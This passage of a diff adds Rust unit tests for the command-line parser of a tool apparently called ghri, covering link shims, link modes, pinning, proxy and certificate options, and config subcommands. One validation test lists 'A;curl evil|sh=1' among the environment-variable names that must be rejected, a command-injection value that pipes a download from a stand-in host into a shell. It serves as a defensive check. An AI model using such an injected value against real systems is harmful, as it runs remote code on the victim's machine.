             Commands::Link(args) => {
                 assert_eq!(args.repo, "owner/repo");
-                assert_eq!(args.dest, PathBuf::from("/usr/local/bin/tool"));
+                assert_eq!(args.dest, Some(PathBuf::from("/usr/local/bin/tool")));
+            }
+            _ => panic!("Expected Link command"),
+        }
+    }
+
+    #[test]
+    fn test_cli_link_shim_parsing() {
+        let cli = Cli::try_parse_from([
+            "ghri",
+            "link",
+            "owner/repo",
+            "/dest",
+            "--shim",
+            "--env",
+            "TOOL_HOME=/opt/tool",
+            "--arg",
+            "--config=/etc/tool.toml",
+        ])
+        .unwrap();
+        match cli.command {
+            Commands::Link(args) => {
+                let shim = args.shim().unwrap();
+                assert_eq!(shim.env["TOOL_HOME"], "/opt/tool");
+                assert_eq!(shim.args, vec!["--config=/etc/tool.toml"]);
             }
             _ => panic!("Expected Link command"),
         }
+
+        let cli = Cli::try_parse_from(["ghri", "link", "owner/repo", "/dest"]).unwrap();
+        match cli.command {
+            Commands::Link(args) => assert_eq!(args.shim(), None),
+            _ => panic!("Expected Link command"),
+        }
+
+        // Shim settings need --shim
+        assert!(Cli::try_parse_from(["ghri", "link", "owner/repo", "--env", "A=1"]).is_err());
+
+        // Names that are not plain identifiers are rejected
+        for env in ["A;curl evil|sh=1", "1A=1", "A-B=1", "A B=1", "%PATH%=1"] {
+            assert!(
+                Cli::try_parse_from(["ghri", "link", "owner/repo", "--shim", "--env", env])
+                    .is_err(),
+                "{}",
+                env
+            );
+        }
+    }
+
+    #[test]
+    fn test_cli_link_mode_parsing() {
+        let cli =
+            Cli::try_parse_from(["ghri", "link", "owner/repo", "/dest", "--mode", "copy"]).unwrap();
+        match cli.command {
+            Commands::Link(args) => assert_eq!(args.mode, "copy"),
+            _ => panic!("Expected Link command"),
+        }
+
+        let cli = Cli::try_parse_from(["ghri", "link", "owner/repo", "/dest"]).unwrap();
+        match cli.command {
+            Commands::Link(args) => assert_eq!(args.mode, "symlink"),
+            _ => panic!("Expected Link command"),
+        }
+
+        // Unknown modes are rejected, and shims are always scripts
+        assert!(
+            Cli::try_parse_from(["ghri", "link", "owner/repo", "/dest", "--mode", "junction"])
+                .is_err()
+        );
+        assert!(
+            Cli::try_parse_from([
+                "ghri",
+                "link",
+                "owner/repo",
+                "/dest",
+                "--shim",
+                "--mode",
+                "copy"
+            ])
+            .is_err()
+        );
     }
 
     #[test]
@@ -489,7 +1439,7 @@ mod tests {
         match cli.command {
             Commands::Link(args) => {
                 assert_eq!(args.repo, "owner/repo");
-                assert_eq!(args.dest, PathBuf::from("/dest"));
+                assert_eq!(args.dest, Some(PathBuf::from("/dest")));
             }
             _ => panic!("Expected Link command"),
         }
@@ -630,6 +1580,21 @@ mod tests {
         }
     }
 
+    #[test]
+    fn test_cli_pin_parsing() {
+        let cli = Cli::try_parse_from(["ghri", "pin", "owner/repo@v1.2.0"]).unwrap();
+        match cli.command {
+            Commands::Pin(args) => assert_eq!(args.repo, "owner/repo@v1.2.0"),
+            _ => panic!("Expected Pin command"),
+        }
+
+        let cli = Cli::try_parse_from(["ghri", "unpin", "owner/repo"]).unwrap();
+        match cli.command {
+            Commands::Unpin(args) => assert_eq!(args.repo, "owner/repo"),
+            _ => panic!("Expected Unpin command"),
+        }
+    }
+
     #[test]
     fn test_cli_prune_with_repos() {
         let cli = Cli::try_parse_from(["ghri", "prune", "owner/repo"]).unwrap();
@@ -664,4 +1629,129 @@ mod tests {
             _ => panic!("Expected Prune command"),
         }
     }
+
+    #[test]
+    fn test_cli_network_options_parsing() {
+        let cli = Cli::try_parse_from([
+            "ghri",
+            "--proxy",
+            "http://proxy:3128",
+            "--no-proxy",
+            "localhost,.corp",
+            "--ca-cert",
+            "/etc/ca.pem",
+            "--ca-cert",
+            "/etc/certs",
+            "--client-cert",
+            "/etc/client.pem",
+            "--client-key",
+            "/etc/client.key",
+            "--insecure",
+            "list",
+        ])
+        .unwrap();
+
+        let network = cli.network;
+        assert_eq!(network.proxy.as_deref(), Some("http://proxy:3128"));
+        assert_eq!(network.no_proxy.as_deref(), Some("localhost,.corp"));
+        assert_eq!(
+            network.ca_certs,
+            vec![PathBuf::from("/etc/ca.pem"), PathBuf::from("/etc/certs")]
+        );
+        assert_eq!(network.client_cert, Some(PathBuf::from("/etc/client.pem")));
+        assert_eq!(network.client_key, Some(PathBuf::from("/etc/client.key")));
+        assert!(network.insecure);
+    }
+
+    #[test]
+    fn test_cli_network_options_after_subcommand() {
+        let cli = Cli::try_parse_from(["ghri", "install", "owner/repo", "--proxy", "http://p:1"])
+            .unwrap();
+        assert_eq!(cli.network.proxy.as_deref(), Some("http://p:1"));
+    }
+
+    #[test]
+    fn test_cli_config_layer() {
+        let cli = Cli::try_parse_from([
+            "ghri",
+            "--root",
+            "/opt/ghri",
+            "--proxy",
+            "http://cli-proxy:2",
+            "--insecure",
+            "install",
+            "owner/repo",
+            "--api-url",
+            "https://github.example.com/api/v3",
+            "--pre",
+        ])
+        .unwrap();
+
+        let layer = cli.config_layer();
+        assert_eq!(layer.install_root, Some(PathBuf::from("/opt/ghri")));
+        assert_eq!(
+            layer.api_url.as_deref(),
+            Some("https://github.example.com/api/v3")
+        );
+        assert_eq!(layer.http.proxy.as_deref(), Some("http://cli-proxy:2"));
+        assert_eq!(layer.http.insecure, Some(true));
+        assert_eq!(layer.pre, Some(true));
+        // Options not given on the command line fall through to lower layers
+        assert_eq!(layer.http.no_proxy, None);
+        assert_eq!(layer.http.ca_certs, None);
+        assert_eq!(layer.prune, None);
+    }
+
+    #[test]
+    fn test_cli_config_subcommands() {
+        let cli = Cli::try_parse_from(["ghri", "config", "list"]).unwrap();
+        assert!(matches!(
+            cli.command,
+            Commands::Config(ConfigArgs {
+                action: ConfigAction::List
+            })
+        ));
+
+        let cli =
+            Cli::try_parse_from(["ghri", "config", "get", "http.proxy", "--show-origin"]).unwrap();
+        match cli.command {
+            Commands::Config(ConfigArgs {
+                action: ConfigAction::Get { key, show_origin },
+            }) => {
+                assert_eq!(key, "http.proxy");
+                assert!(show_origin);
+            }
+            _ => panic!("Expected config get"),
+        }
+
+        let cli =
+            Cli::try_parse_from(["ghri", "config", "set", "pre", "true", "--system"]).unwrap();
+        match cli.command {
+            Commands::Config(ConfigArgs {
+                action: ConfigAction::Set { key, value, system },
+            }) => {
+                assert_eq!(key, "pre");
+                assert_eq!(value, "true");
+                assert!(system);
+            }
+            _ => panic!("Expected config set"),
+        }
+
+        let cli = Cli::try_parse_from(["ghri", "config", "unset", "pre"]).unwrap();
+        assert!(matches!(
+            cli.command,
+            Commands::Config(ConfigArgs {
+                action: ConfigAction::Unset { system: false, .. }
+            })
+        ));
+    }
+
+    #[test]
+    fn test_cli_link_without_dest() {
+        let cli = Cli::try_parse_from(["ghri", "link", "owner/repo"]).unwrap();
+        match cli.command {
+            Commands::Link(args) => assert_eq!(args.dest, None),
+            _ => panic!("Expected Link command"),
+        }
+    }
 }